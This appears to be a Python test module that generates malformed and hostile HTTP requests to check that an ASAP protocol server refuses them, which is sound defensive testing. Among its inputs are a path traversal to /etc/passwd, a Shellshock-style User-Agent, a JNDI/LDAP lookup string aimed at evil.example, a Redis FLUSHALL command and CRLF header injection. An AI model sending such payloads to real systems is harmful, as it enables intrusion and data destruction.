"""Paths and methods, request lines and headers: what is no HTTP, and what is HTTP and none of ours."""

from collections.abc import Iterator

from hostile.cases import (
    REFUSALS,
    Case,
    Expect,
    Place,
    call,
    envelope,
    good,
    head,
    lenient,
    no_http,
    posted,
    refused,
    status,
)

_POSTED = ("/asap", "/asap/stream")
_READ = ("/.well-known/asap/manifest.json", "/.well-known/asap/health", "/asap/metrics", "/health", "/ready")
_METHODS = ("GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE")

#: Methods that servers know nothing of: refused by them or, where they hand them on, by us.
_UNKNOWN_METHODS = ("FOO", "post", "POSTS", "PROPFIND", "M-SEARCH", "X" * 100)


def routes(at: Place) -> Iterator[Case]:
    """Every path by every method, and paths that there are not."""
    for path in (*_POSTED, *_READ):
        for method in _METHODS:
            if (method == "POST" and path in _POSTED) or (method in ("GET", "HEAD") and path in _READ):
                continue
            sends = head(at, method=method, target=path, length=0)
            yield Case(f"{method} {path}", (sends,), status(405), head=method == "HEAD")
        for method in _UNKNOWN_METHODS:
            sends = head(at, method=method, target=path, length=0)
            yield Case(f"{method[:10]} {path}", (sends,), Expect(frozenset({405}) | REFUSALS))
    for name, target in _NO_PATHS.items():
        yield Case(f"GET {name}", (head(at, method="GET", target=target),), status(404))
        sends = posted(at, call(envelope(at)), target=target)
        yield Case(f"POST {name}", (sends,), status(404))
    for target in ("/asap?a=b", "/asap?", "/%61sap", "/asap?x=" + "a" * 5000):
        sends = posted(at, call(envelope(at)), target=target)
        yield Case(f"POST {target[:12]}", (sends,), good())
    for value in ("*", '"x"', "W/", ",,,", '"' * 500, "\xff", "x" * 5000):
        sends = head(at, method="GET", target=_READ[0], more={"If-None-Match": value})
        yield Case(f"the manifest, if not {value[:6]!r} {len(value)}", (sends,), status(200, 304))
    for value in ("bytes=0-", "bytes=-1", "bytes=0-0,0-0", "bytes=" + "0-0," * 1000, "x=1-2"):
        sends = head(at, method="GET", target=_READ[0], more={"Range": value})
        yield Case(f"the manifest, range {value[:14]}", (sends,), status(200))


_NO_PATHS = {
    "root": "/",
    "nothing we have": "/admin",
    "another case": "/ASAP",
    "two slashes": "//asap",
    "a slash within": "/asap//stream",
    "a way up": "/x/../asap",
    "a way up, escaped": "/x/%2e%2e/asap",
    "a way out": "/asap/../../etc/passwd",
    "a dot": "/./asap",
    "a parameter": "/asap;a=b",
    "a NUL": "/asap%00",
    "a line break": "/asap%0d%0aX:%20y",
    "a blank": "/asap%20",
    "bytes that are no UTF-8": "/asap%ff%fe",
    "an escape twice": "/%2561sap",
    "half an escape": "/asap%",
    "a bad escape": "/asap%zz",
    "a backslash": "/asap%5cstream",
    "a file": "/.well-known/asap/../../target.py",
    "another well-known": "/.well-known/security.txt",
    "the docs of others": "/docs",
    "an open schema": "/openapi.json",
    "a favicon": "/favicon.ico",
    "4,000 characters": "/" + "a" * 4000,
    "1,000 segments": "/a" * 1000,
}


def lines(at: Place) -> Iterator[Case]:
    """Request lines that are none; each is followed by nothing, so that an answer is to it."""
    host = f"Host: {at.host}\r\n"
    for name, line in _LINES.items():
        sends = line.encode("latin-1") + host.encode() + b"\r\n"
        yield Case(name, (sends,), no_http(), ends=True)
    for name, raw in _NOISE.items():
        yield Case(name, (raw,), no_http(), ends=True)
    yield Case("OPTIONS *", (head(at, method="OPTIONS", target="*"),), Expect(REFUSALS | {404}))
    sends = head(at, method="CONNECT", target="127.0.0.1:1")
    yield Case("CONNECT elsewhere", (sends,), Expect(REFUSALS | {404}), ends=True)
    sends = head(at, method="GET", target=f"http://{at.host}/health")
    yield Case("the whole URL", (sends,), status(200))
    plain = head(at, method="GET", target="/health")
    yield Case("empty lines before", (b"\r\n\r\n" + plain,), lenient())
    yield Case("two blanks", (plain.replace(b" ", b"  ", 1),), lenient())
    yield Case("tabs", (plain.replace(b" ", b"\t", 2),), lenient())
    sends = f"GET /health HTTP/1.0\r\n{host}\r\n".encode()
    yield Case("HTTP/1.0", (sends,), Expect(frozenset({200}), closes=True))


_LINES = {
    "no version": "GET /health\r\n",
    "no target": "GET HTTP/1.1\r\n",
    "a method alone": "GET\r\n",
    "a blank in the target": "GET /health x HTTP/1.1\r\n",
    "a NUL in the target": "GET /hea\0lth HTTP/1.1\r\n",
    "a NUL in the method": "GE\0T /health HTTP/1.1\r\n",
    "a return in the target": "GET /hea\rlth HTTP/1.1\r\n",
    "bytes beyond ASCII": "GET /h\xe9alth HTTP/1.1\r\n",
    "an escape character": "GET /\x1b[31m HTTP/1.1\r\n",
    "no slash": "GET health HTTP/1.1\r\n",
    "a method in quotes": '"GET" /health HTTP/1.1\r\n',
    "a method with brackets": "G[]T /health HTTP/1.1\r\n",
    "a method of 100,000 letters": "G" * 100_000 + " /health HTTP/1.1\r\n",
    "a target of 100,000 letters": "GET /" + "a" * 100_000 + " HTTP/1.1\r\n",
    "a target of a megabyte": "GET /" + "a" * 1_000_000 + " HTTP/1.1\r\n",
    "a query of 100,000 letters": "GET /health?" + "a" * 100_000 + " HTTP/1.1\r\n",
    "HTTP/9.9": "GET /health HTTP/9.9\r\n",
    "HTTP/1.10": "GET /health HTTP/1.10\r\n",
    "HTTP/0.9": "GET /health HTTP/0.9\r\n",
    "HTTP/2.0": "GET /health HTTP/2.0\r\n",
    "http/1.1": "GET /health http/1.1\r\n",
    "HTTQ/1.1": "GET /health HTTQ/1.1\r\n",
    "HTTP/1": "GET /health HTTP/1\r\n",
    "HTTP/": "GET /health HTTP/\r\n",
    "HTTP/1.1 and more": "GET /health HTTP/1.1 x\r\n",
    "an answer": "HTTP/1.1 200 OK\r\n",
}

_NOISE = {
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(256)),
    "SSH": b"SSH-2.0-OpenSSH_9.6\r\n",
    "SOCKS": b"\x05\x01\x00",
    "a Redis command": b"*1\r\n$8\r\nFLUSHALL\r\n",
    "SMTP": b"EHLO x\r\nMAIL FROM:<x>\r\n",
    "NUL characters": bytes(10_000),
    "every byte": bytes(range(256)) * 10,
    "line breaks": b"\r\n" * 1000,
    "a megabyte without a line": b"a" * 1_000_000,
    "JSON alone": b'{"jsonrpc":"2.0","method":"asap.send","params":{},"id":1}\n',
    "half a line": b"POST /as",
    "half a head": b"POST /asap HTTP/1.1\r\nHost: x\r\nContent-Le",
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0",
}


def headers(at: Place) -> Iterator[Case]:
    """Headers that are none, too many, too long, twice, or that mean something elsewhere."""
    body = call(envelope(at))
    for name, line in _NO_HEADERS.items():
        top, _, rest = head(at, method="GET", target="/health").partition(b"\r\n")
        yield Case(name, (top + b"\r\n" + line.encode("latin-1") + rest,), no_http())
    for name, more in _HARMLESS.items():
        yield Case(name, (posted(at, body, more=more),), good())
    for name, more in UPGRADES.items():
        passed_over = Expect(REFUSALS | {200, 403, 426})
        yield Case(f"an upgrade to {name}", (posted(at, body, more=more),), passed_over)
        sends = head(at, method="GET", target="/health", more=more)
        yield Case(f"an upgrade to {name}, to read", (sends,), passed_over)
    for name, more in _TOO_MUCH.items():
        yield Case(name, (posted(at, body, more=more),), no_http())
    for value in ("9", ",", "x" * 500, "2.2.0", "2", "\xff", "2.2;q=1", "None"):
        expect = refused("asap:protocol/version_mismatch")
        yield Case(f"version {value[:8]!r}", (posted(at, body, more={"ASAP-Version": value}),), expect)
    for value in ("2.2", "9, 2.1", " 2.2 ,", "2.1,2.1"):
        yield Case(f"version {value!r}", (posted(at, body, more={"ASAP-Version": value}),), good())
    for value in ("text/plain", "", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"):
        yield Case(f"content type {value!r}", (posted(at, body, type=value),), _MEDIA)
    for value in ("application/jsonx", "text/json", "json", "*/*", "application/octet-stream", "text/html"):
        yield Case(f"content type {value!r}", (posted(at, body, type=value),), _MEDIA)
    yield Case("no content type", (posted(at, body, type=None),), _MEDIA)
    twice = (("Content-Type", "application/json"),)
    yield Case("two content types", (posted(at, body, type="text/plain", more=twice),), _MEDIA)
    yield Case("a content type of many", (posted(at, body, type="text/plain, application/json"),), _MEDIA)
    for value in ("APPLICATION/JSON", "application/json; charset=utf-8", "application/vnd.asap+json"):
        yield Case(f"content type {value!r}", (posted(at, body, type=value),), good())


#: The refusal of a body that does not say to be JSON.
_MEDIA = refused("asap:transport/unsupported_media_type", status=415)

_NO_HEADERS = {
    "no colon": "Broken\r\n",
    "no name": ": x\r\n",
    "a blank before the colon": "X : y\r\n",
    "a blank in the name": "X y: z\r\n",
    "a NUL in the name": "X\0: y\r\n",
    "a NUL in the value": "X: a\0b\r\n",
    "a return in the value": "X: a\rb\r\n",
    "a byte beyond ASCII in the name": "X\xe9: y\r\n",
    "a bracket in the name": "X[]: y\r\n",
    "a folded line": "X: a\r\n b\r\n",
    "a folded line first": " X: a\r\n",
    "a control character": "X: a\x01b\r\n",
    "two hosts": "Host: evil.example\r\n",
}

_HARMLESS: dict[str, tuple[tuple[str, str], ...]] = {
    "an empty value": (("X", ""),),
    "a tab in a value": (("X", "a\tb"),),
    "bytes beyond ASCII in a value": (("X", "\xff\xfe"),),
    "50 headers": tuple((f"X-{n}", "y") for n in range(50)),
    "a value of 8,000 characters": (("X", "y" * 8000),),
    "another method, asked for": (("X-HTTP-Method-Override", "DELETE"),),
    "another path, asked for": (("X-Original-URL", "/admin"), ("X-Rewrite-URL", "/admin")),
    "another peer, told": (("X-Forwarded-For", "127.0.0.1"), ("Forwarded", "for=127.0.0.1")),
    "another host, told": (("X-Forwarded-Host", "evil.example"),),
    "another scheme, told": (("X-Forwarded-Proto", "https"),),
    "a function of a shell": (("User-Agent", "() { :; }; echo x"),),
    "a lookup": (("User-Agent", "${jndi:ldap://evil.example/x}"),),
    "an expectation met": (("Expect", "100-continue"),),
    "headers named by Connection": (("Connection", "content-length, host, authorization"),),
    "a length with an underscore": (("Content_Length", "5"),),
    "a coding with an underscore": (("Content_Encoding", "gzip"),),
    "a version with an underscore": (("ASAP_Version", "9"),),
    "a cookie of 4,000 characters": (("Cookie", "a=" + "b" * 4000),),
    "a TE": (("TE", "trailers, gzip;q=1"), ("Connection", "TE")),
    "trailers announced": (("Trailer", "Authorization"),),
    "an odd Accept": (
        ("Accept", "text/html;q=0.9, */*;q=x"),
        ("Accept-Encoding", "br;q=NaN"),
        ("Accept-Language", ".."),
    ),
}

#: A server may pass an upgrade over, or refuse it; it must not do it.
UPGRADES: dict[str, tuple[tuple[str, str], ...]] = {
    "websocket": (
        ("Upgrade", "websocket"),
        ("Connection", "Upgrade"),
        ("Sec-WebSocket-Key", "AAAAAAAAAAAAAAAAAAAAAA=="),
    ),
    "websocket, version 13": (
        *(("Upgrade", "websocket"), ("Connection", "Upgrade")),
        *(("Sec-WebSocket-Version", "13"), ("Sec-WebSocket-Key", "AAAAAAAAAAAAAAAAAAAAAA==")),
    ),
    "HTTP/2": (("Upgrade", "h2c"), ("Connection", "Upgrade, HTTP2-Settings"), ("HTTP2-Settings", "AAMAAABkAAQCAAAA")),
    "TLS": (("Upgrade", "TLS/1.2"), ("Connection", "Upgrade")),
    "what nobody knows": (("Upgrade", "x"), ("Connection", "Upgrade")),
}

_TOO_MUCH: dict[str, tuple[tuple[str, str], ...]] = {
    "5,000 headers": tuple((f"X-{n}", "y") for n in range(5000)),
    "50,000 headers": tuple((f"X-{n}", "y") for n in range(50_000)),
    "one header 5,000 times": (("X", "y" * 100),) * 5000,
    "a value of a megabyte": (("X", "y" * 1_000_000),),
    "a name of 100,000 letters": (("X" * 100_000, "y"),),
    "cookies of a megabyte": tuple(("Cookie", "a=" + "b" * 4000) for _ in range(250)),
}
